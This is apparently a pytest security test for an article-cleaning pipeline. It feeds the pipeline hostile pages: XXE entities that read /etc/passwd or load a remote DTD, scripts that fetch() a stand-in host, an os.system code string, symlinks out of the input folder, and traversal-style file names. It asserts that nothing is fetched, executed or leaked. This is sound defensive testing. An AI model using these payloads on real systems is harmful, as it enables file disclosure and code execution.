"""Nothing in an input can make the pipeline fetch a URL, run code, or write outside OUTPUT.

The inputs reference the outside world every way a scraped page can: external XML entities
(file:// and http://), scripts, iframes, stylesheets, images, meta refresh, JSON-LD with URLs, a
JSONL url naming a local file, a WARC record whose Target-URI is file:///etc/passwd, a symlink
out of INPUT, names made of dots and backslashes. The run (discover, `clean_shard` with
validation, corpus dedup, staging and publish: the flow minus Prefect) happens with the network
and process creation blocked, in a fresh HOME, TMPDIR and working directory.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from tests.hostile import ARTICLES, page, warc_bytes
from tests.shards import run_shard
from transforms.core.config import PipelineConfig
from transforms.read.files import discover
from transforms.run.deduplicate import deduplicate_run
from transforms.run.stage_outputs import discover_quarantine, stage_run
from transforms.run.store import RunPaths, publish, stage_manifest

PASSWD = Path("/etc/passwd")
NOW = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
REPO = Path(__file__).resolve().parents[1]
MARKER = "sandbox-pwned-marker"
EXPLOIT = f"__import__('os').system('touch {MARKER}'); open('{MARKER}', 'w')"

HOSTILE_HEAD = f"""<?xml version="1.0"?>
<!DOCTYPE html [
<!ENTITY local SYSTEM "file:///etc/passwd">
<!ENTITY remote SYSTEM "http://203.0.113.7/evil.dtd">
<!ENTITY % param SYSTEM "http://203.0.113.7/param.dtd"> %param;
]>
<html><head><title>TITLE</title>
<meta http-equiv="refresh" content="0; url=http://203.0.113.7/refresh">
<link rel="stylesheet" href="http://203.0.113.7/style.css">
<link rel="import" href="file:///etc/passwd">
<base href="http://203.0.113.7/">
<script src="http://203.0.113.7/app.js"></script>
<script>fetch('http://203.0.113.7/beacon'); {EXPLOIT}</script>
<script type="application/ld+json">
{{"@context": "http://203.0.113.7/context.jsonld", "@type": "NewsArticle",
 "image": "http://203.0.113.7/image.jpg", "url": "file:///etc/passwd",
 "author": {{"@id": "http://203.0.113.7/author"}}, "sameAs": "file:///etc/shadow"}}
</script>
</head>"""


def hostile_page(key: str, site: str = "Outside World") -> str:
    title, paragraphs = ARTICLES[key]
    html = page(title, paragraphs, site=site)
    body = html[html.index("<body>") :]
    extras = (
        "<p>&local; &remote;</p>"
        '<iframe src="http://203.0.113.7/frame"></iframe>'
        '<img src="http://203.0.113.7/pixel.gif" srcset="file:///etc/passwd 2x">'
        '<object data="file:///etc/passwd"></object>'
        '<svg><image href="file:///etc/passwd"/></svg>'
        '<figure><img src="http://203.0.113.7/p.jpg"><figcaption>A photo (AP)</figcaption></figure>'
        f'<p onclick="{EXPLOIT}">Click</p>'
    )
    return HOSTILE_HEAD.replace("TITLE", title) + body.replace("</article>", extras + "</article>")


def write_inputs(root: Path, outside: Path) -> None:
    root.mkdir(parents=True)
    (root / "entities.html").write_text(hostile_page("harbour"))
    (root / "xml page.txt").write_text(hostile_page("choir"))  # html under .txt
    title, paragraphs = ARTICLES["bakery"]
    records = [
        {"url": "file:///etc/passwd", "html": hostile_page("bakery")},
        {"url": "/etc/passwd", "text": f"{title}\n\n" + "\n\n".join(paragraphs)},
        {"url": "http://203.0.113.7/x", "html_path": "/etc/passwd", "file": "/etc/passwd"},
        {"url": "file:///etc/passwd"},  # no content: must not be filled from the url
    ]
    (root / "scraped.jsonl").write_text("\n".join(json.dumps(r) for r in records))
    (root / "crawl.warc").write_bytes(
        warc_bytes([("file:///etc/passwd", hostile_page("harbour", "Crawl Wire").encode())])
    )
    # names cannot contain "/", but they can be made of dots and backslashes
    (root / "..html").write_text(hostile_page("choir"))
    (root / "..\\..\\..\\escape.html").write_text(hostile_page("bakery", "Dots Daily"))
    # links out of INPUT: to a system file and to a folder beside INPUT
    os.symlink(PASSWD, root / "passwd.txt")
    os.symlink(outside, root / "outside")
    os.symlink(outside / "secret.html", root / "secret.html")
    (root / "sub").mkdir()
    os.symlink("../../outside/secret.html", root / "sub" / "up.html")


def _tree(root: Path) -> dict[str, tuple]:
    """Every entry under root (links not followed): kind, size, mtime, content hash."""
    out = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            st = p.lstat()
            digest = (
                hashlib.sha256(p.read_bytes()).hexdigest()
                if p.is_file() and not p.is_symlink()
                else os.readlink(p)
                if p.is_symlink()
                else "dir"
            )
            out[str(p.relative_to(root))] = (st.st_mode, st.st_size, st.st_mtime_ns, digest)
    return out


@pytest.fixture()
def guarded(monkeypatch, tmp_path):
    """Block and record every network connection, DNS lookup and process creation."""
    attempts: list[str] = []

    def refuse(what):
        def blocked(*args, **kwargs):
            attempts.append(f"{what} {[a for a in args if isinstance(a, str | tuple | list)]}")
            raise OSError(f"sandbox test: {what} is blocked")

        return blocked

    monkeypatch.setattr(socket.socket, "connect", refuse("socket.connect"))
    monkeypatch.setattr(socket.socket, "connect_ex", refuse("socket.connect_ex"))
    monkeypatch.setattr(socket.socket, "sendto", refuse("socket.sendto"))
    monkeypatch.setattr(socket, "create_connection", refuse("create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
    monkeypatch.setattr(subprocess.Popen, "_execute_child", refuse("subprocess.Popen"))
    monkeypatch.setattr(os, "system", refuse("os.system"))
    monkeypatch.setattr(os, "posix_spawn", refuse("os.posix_spawn"))
    monkeypatch.setattr(os, "fork", refuse("os.fork"))
    # a fresh HOME, TMPDIR and working directory: anything written there is a write outside
    home, tmp, cwd = (tmp_path / n for n in ("home", "tmp", "cwd"))
    for d in (home, tmp, cwd):
        d.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("TMPDIR", str(tmp))
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    monkeypatch.chdir(cwd)
    return attempts, (home, tmp, cwd)


def _run_like_the_flow(root: Path, output: Path, config: PipelineConfig) -> RunPaths:
    """discover -> clean_shard -> dedup -> stage -> publish, as flows/clean_articles.py does."""
    run_id = "20260302T080000Z-sandbx"
    paths = RunPaths(output, run_id)
    files, drops, _ = discover(root, config.read)
    result = run_shard(
        str(root),
        files,
        str(output),
        run_id,
        "00000",
        NOW,
        config,
        docs_dir=str(output / paths.reports()),
    )
    dedup = deduplicate_run(paths, config, run_id, NOW)
    staged = stage_run(paths, dedup, files, discover_quarantine(drops, run_id, NOW), NOW)
    stage_manifest(paths, {"run_id": run_id, "documents": result.documents})
    publish(paths)
    assert staged.articles + staged.duplicates + staged.quarantined == result.documents + len(drops)
    return paths


def test_inputs_cannot_fetch_execute_or_write_outside_output(guarded, tmp_path):
    attempts, (home, tmp, cwd) = guarded
    root, outside, output = tmp_path / "input", tmp_path / "outside", tmp_path / "output"
    outside.mkdir()
    (outside / "secret.html").write_text(page(*ARTICLES["harbour"], site="Secret Site"))
    write_inputs(root, outside)
    before_input, before_outside = _tree(root), _tree(outside)

    _run_like_the_flow(root, output, PipelineConfig())

    assert attempts == []
    assert _tree(root) == before_input and _tree(outside) == before_outside
    assert [list(d.iterdir()) for d in (home, tmp, cwd)] == [[], [], []]
    top = {p.name for p in output.iterdir()}
    assert top <= {
        "articles",
        "pages",
        "duplicates",
        "quarantine",
        "story_links",
        "runs",
        "ledger",
        "dedup_index",
        "doc_index",
        "compactions",
        "_state",
        "reports",
        "_staging",
    }
    assert not (output / "_staging").exists() or not any((output / "_staging").iterdir())
    for p in output.rglob("*"):  # nothing published is a link or leads out of OUTPUT
        assert not p.is_symlink() and p.resolve().is_relative_to(output.resolve()), p
    assert not list(Path("/").glob(f"*/{MARKER}")) and not (REPO / MARKER).exists()

    texts = _published_text(output)
    secret = {line for line in PASSWD.read_text().splitlines() if line.count(":") >= 6}
    assert secret and not [s for s in secret if s in texts]
    assert "Secret Site" not in texts and "root:x:0:0" not in texts

    articles = pq.ParquetDataset(output / "articles").read().to_pylist()
    quarantine = pq.ParquetDataset(output / "quarantine").read().to_pylist()
    got = {(r["source_path"], r["source_record"]): r["reason"] for r in quarantine}
    assert got[("passwd.txt", None)] == "symlink_outside_input"
    assert got[("secret.html", None)] == "symlink_outside_input"
    assert got[("sub/up.html", None)] == "symlink_outside_input"
    assert got[("outside", None)] == "symlink_outside_input"
    assert got[("scraped.jsonl", 3)] == "record_without_content"
    assert got[("scraped.jsonl", 4)] == "record_without_content"
    # warcio parses an HTTP block only under an http(s) Target-URI: the record is not a page
    assert got[("crawl.warc", 0)] == "unsupported_content_type"
    for row in articles:
        # the pages' own text made it through; what they point at did not
        assert any(w in row["body"].lower() for w in ("dredging", "choir", "bakery"))
        assert "203.0.113.7" not in row["body"] and "&local;" not in row["body"]
        assert MARKER not in row["body"] and "fetch(" not in row["body"]
    duplicates = pq.ParquetDataset(output / "duplicates").read().to_pylist()
    kept = {(r["source_path"], r["source_record"]) for r in articles + duplicates}
    # the same three stories under several names: each kept once, the others are duplicates
    assert kept == {
        ("entities.html", None),
        ("xml page.txt", None),
        ("..html", None),
        ("..\\..\\..\\escape.html", None),
        ("scraped.jsonl", 1),
        ("scraped.jsonl", 2),
    }
    assert len(articles) == 3
    # a url column is for web addresses: the record's file:// URI and bare path are not kept
    for row in articles + duplicates:
        assert row["url"] is None or row["url"].startswith(("http://", "https://")), row


def test_the_guard_sees_a_connection(guarded):
    """The blocking above is real: a fetch through the standard library is caught."""
    import urllib.request

    attempts, _ = guarded
    with pytest.raises(OSError):
        urllib.request.urlopen("http://203.0.113.7/", timeout=1)
    with pytest.raises(OSError):
        subprocess.run(["true"])
    assert len(attempts) == 2


@pytest.mark.parametrize(
    ("url", "kept"),
    [
        ("file:///etc/passwd", None),
        ("/etc/passwd", None),
        ("javascript:alert(1)", None),
        ("HTTPS://Example.org/a?utm_source=x&id=3", "https://example.org/a?id=3"),
    ],
)
def test_url_column_holds_web_addresses_only(url, kept):
    from transforms.core.record import Article
    from transforms.metadata.steps import FinalizeMetadataStep

    doc = Article("d", "a.jsonl", "jsonl", "text", url=url)
    doc.text = "A short body."
    assert FinalizeMetadataStep(PipelineConfig()).apply(doc) is None
    assert doc.url == kept
    assert doc.changes == ({} if kept else {"url_not_web": 1})


def _published_text(output: Path) -> str:
    parts = []
    for p in sorted(output.rglob("*")):
        if p.suffix == ".parquet":
            parts.append(str(pq.read_table(p).to_pylist()))
        elif p.is_file():
            parts.append(p.read_text(errors="replace"))
    return "\n".join(parts)
